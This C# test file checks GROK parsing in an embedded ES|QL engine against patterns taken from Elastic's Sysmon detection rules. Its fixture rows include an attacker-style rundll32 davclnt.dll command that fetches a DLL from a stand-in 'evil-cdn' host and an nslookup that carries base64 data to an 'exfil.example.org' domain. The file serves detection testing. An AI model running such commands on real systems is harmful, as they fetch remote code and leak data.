using FluentAssertions;
using Sysmon.Queries.Esql;
using Sysmon.Queries.Tests.Fixtures;
using Xunit;

namespace Sysmon.Queries.Tests;

/// <summary>GROK on the embedded store, with the patterns of Elastic's own ES|QL rules over Sysmon DNS queries and
/// command lines (DNS to RMM vendors, WebDAV destinations, data sent out in DNS names).</summary>
public sealed class GrokTests : IDisposable
{
    private readonly InMemoryTable _t = new("t", ["dns.question.name", "process.command_line", "process.args"], """
        CREATE TABLE t ("dns.question.name" VARCHAR, "process.command_line" VARCHAR, "process.args" VARCHAR[]);
        INSERT INTO t VALUES
          ('relay.eu.anydesk.com', 'rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie files.evil-cdn.net@SSL https://alice@Files.Evil-CDN.net:8443/share/a.dll', ['rundll32.exe']),
          ('anydesk.com', 'rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie 10.1.2.3 http://10.1.2.3/DavWWWRoot', ['rundll32.exe']),
          ('12-aGVsbG8gd29ybGQgdGhpcyBpcyBh.exfil.example.org', 'nslookup 12-aGVsbG8gd29ybGQgdGhpcyBpcyBh.exfil.example.org', ['nslookup.exe']),
          (NULL, 'cmd.exe /c whoami', ['cmd.exe', '/c', 'whoami']);
        """, listColumns: ["process.args"]);

    public void Dispose() => _t.Dispose();

    private List<string> Rows(string esql) => _t.Rows(esql);

    [Fact]
    public void A_named_group_takes_the_parent_domain_and_is_null_where_the_pattern_does_not_match()
    {
        // As Elastic's "DNS to RMM domains" rule cuts it: two labels need not match, the rule falls back with COALESCE.
        Rows(""""
            FROM t | GROK dns.question.name """(?:[^.]+\.)+(?<parent_domain>[^.]+\.[^.]+)$"""
            | EVAL parent = COALESCE(parent_domain, dns.question.name) | KEEP parent_domain, parent
            """").Should().Equal("anydesk.com|anydesk.com", "null|anydesk.com", "example.org|example.org", "null|null");
    }

    [Fact]
    public void The_webdav_server_is_found_anywhere_in_the_command_line_without_credentials_or_port()
    {
        Rows(""""
            FROM t | WHERE process.command_line LIKE "*DavSetCookie*"
            | GROK process.command_line """(?i:https?)://(?:[^/@\s]+@)?(?<Esql.server_webdav_server>[a-zA-Z0-9-]+(?:\.[a-zA-Z0-9-]+)*)"""
            | EVAL server = TO_LOWER(Esql.server_webdav_server) | KEEP server
            """").Should().Equal("files.evil-cdn.net", "10.1.2.3");
    }

    [Fact]
    public void Built_in_patterns_cut_a_dns_exfiltration_name_into_index_payload_and_domain()
    {
        // The pattern as Elastic's "excessive DNS queries" rule writes it, \\. in an ES|QL string being \. in the regex.
        Rows(""""
            FROM t | GROK dns.question.name "%{INT:chunk_index}-%{DATA:chunk_payload}\\.%{GREEDYDATA:Esql.base_domain}"
            | WHERE chunk_index IS NOT NULL | EVAL n = TO_INTEGER(chunk_index), len = LENGTH(chunk_payload) | KEEP n, len, Esql.base_domain
            """").Should().Equal("12|28|exfil.example.org");
    }

    [Fact]
    public void A_type_suffix_converts_and_the_new_columns_replace_old_ones_at_the_end()
    {
        Rows("FROM t | GROK dns.question.name \"%{INT:chunk:int}-\" | WHERE chunk IS NOT NULL | EVAL next = chunk + 1 | KEEP next").Should().Equal("13");
        _t.ColumnNames("FROM t | GROK process.command_line \"%{WORD:dns.question.name} %{NOTSPACE:rest}\" | LIMIT 1")
            .Should().Equal("process.command_line", "process.args", "dns.question.name", "rest");
        Rows("FROM t | GROK process.command_line \"%{IP:ip}\" | KEEP ip").Should().Equal("null", "10.1.2.3", "null", "null");
        Rows("FROM t | EVAL s = \"from fe80::1 and 2001:db8::8a2e:370:7334 to ::ffff:10.0.0.1 at 2026-01-05T10:00:01.123Z\" " +
             "| GROK s \"from %{IP:a} and %{IP:b} to %{IP:c} at %{TIMESTAMP_ISO8601:t}\" | KEEP a, b, c, t | LIMIT 1")
            .Should().Equal("fe80::1|2001:db8::8a2e:370:7334|::ffff:10.0.0.1|2026-01-05T10:00:01.123Z");
        Rows("FROM t | GROK process.command_line \"^%{NOTSPACE:image} %{GREEDYDATA:args}\" | KEEP image | LIMIT 1").Should().Equal("rundll32.exe");
    }

    [Fact]
    public void Row_makes_one_row_of_constants_to_try_a_pattern_on_as_the_esql_documentation_does()
    {
        // ES|QL's GROK example and the answer its documentation gives (num converted by :int).
        Rows("""
            ROW a = "2023-01-23T12:15:00.000Z 127.0.0.1 some.email@foo.com 42"
            | GROK a "%{TIMESTAMP_ISO8601:date} %{IP:ip} %{EMAILADDRESS:email} %{NUMBER:num:int}"
            | EVAL next = num + 1 | KEEP date, ip, email, num, next
            """).Should().Equal("2023-01-23T12:15:00.000Z|127.0.0.1|some.email@foo.com|42|43");
        Rows("ROW a = 1, b = \"x\", c = null, d = TO_UPPER(\"y\") | EVAL e = a * 2").Should().Equal("1|x|null|Y|2");
        var twice = () => Rows("ROW a = 1, a = 2");
        twice.Should().Throw<EsqlException>().WithMessage("ROW names a column twice*");
        var column = () => Rows("ROW a = 1, b = a");
        column.Should().Throw<EsqlException>().WithMessage("unknown column 'a'*", "a ROW's values are constants");
    }

    [Fact]
    public void A_multi_valued_input_is_cut_value_by_value_as_esql_does()
    {
        // Each argument is matched on its own; the new column holds what the values gave, null where none matched.
        Rows("FROM t | GROK process.args \"^/%{WORD:switch}$\" | KEEP switch").Should().Equal("null", "null", "null", "[c]");
        Rows("FROM t | GROK process.args \"^%{WORD:word}$\" | EVAL n = MV_COUNT(word) | KEEP n").Should().Equal("null", "null", "null", "1");
        Rows("FROM t | DISSECT process.args \"%{image}.%{ext}\" | MV_EXPAND ext | KEEP ext").Should().Equal("exe", "exe", "exe", "exe");
        Rows("FROM t | GROK process.args \"(?<x>.+)\" | WHERE x == \"nslookup.exe\" | KEEP x").Should().Equal(new[] { "[nslookup.exe]" }, "a list of one compares as its value");
    }

    [Theory]
    [InlineData("FROM t | GROK process.command_line \"%{IPV5:x}\"", "GROK: %{IPV5} is not one of the * built-in patterns here (queries/README.md lists them) (did you mean 'IPV4' or 'IPV6'?)*")]
    [InlineData("FROM t | GROK process.command_line \"(?<=x)(?<a>y)\"", "GROK: lookaround and atomic groups*not supported*RE2*")]
    [InlineData("FROM t | GROK process.command_line \"%{WORD:a} %{WORD:a}\"", "GROK: field a is named twice*")]
    [InlineData("FROM t | GROK process.command_line \"%{WORD:a:date}\"", "GROK: type 'date' of field a is not one of int, long, float, double, boolean*")]
    [InlineData("FROM t | GROK process.command_line \"%{WORD}\"", "GROK: pattern '%{WORD}' names no field*")]
    public void What_the_embedded_store_cannot_do_is_an_error_that_says_so(string esql, string message)
    {
        var run = () => Rows(esql);
        run.Should().Throw<EsqlException>().WithMessage(message);
    }

    [Theory]
    [InlineData(@"%{INT:n}", @"([+-]?[0-9]+)")]
    [InlineData(@"(a|b)(?<x>[(]c)", @"(?:a|b)([(]c)")]
    [InlineData(@"\(%{WORD:w}\) %{SPACE}", @"\((\b\w+\b)\) (?:\s*)")]
    [InlineData(@"%{MAC:m}", @"((?:(?:[A-Fa-f0-9]{4}\.){2}[A-Fa-f0-9]{4})|(?:(?:[A-Fa-f0-9]{2}-){5}[A-Fa-f0-9]{2})|(?:(?:[A-Fa-f0-9]{2}:){5}[A-Fa-f0-9]{2}))")]
    public void Only_named_captures_are_groups_in_the_regular_expression(string pattern, string regex) =>
        GrokPattern.Parse(pattern, 0).Regex.Should().Be(regex);

    [Fact]
    public void Every_built_in_pattern_is_a_regular_expression_duckdb_accepts()
    {
        foreach (var name in GrokBuiltins.Definitions.Keys)
        {
            var regex = GrokPattern.Parse($"%{{{name}:x}}", 0).Regex;
            using var cmd = _t.Connection.CreateCommand();
            cmd.CommandText = $"SELECT regexp_matches('2026-01-05T10:00:00Z 10.0.0.1 fe80::1 alice@example.com', '{regex.Replace("'", "''", StringComparison.Ordinal)}')";
            var run = () => cmd.ExecuteScalar();
            run.Should().NotThrow(name);
        }
    }
}
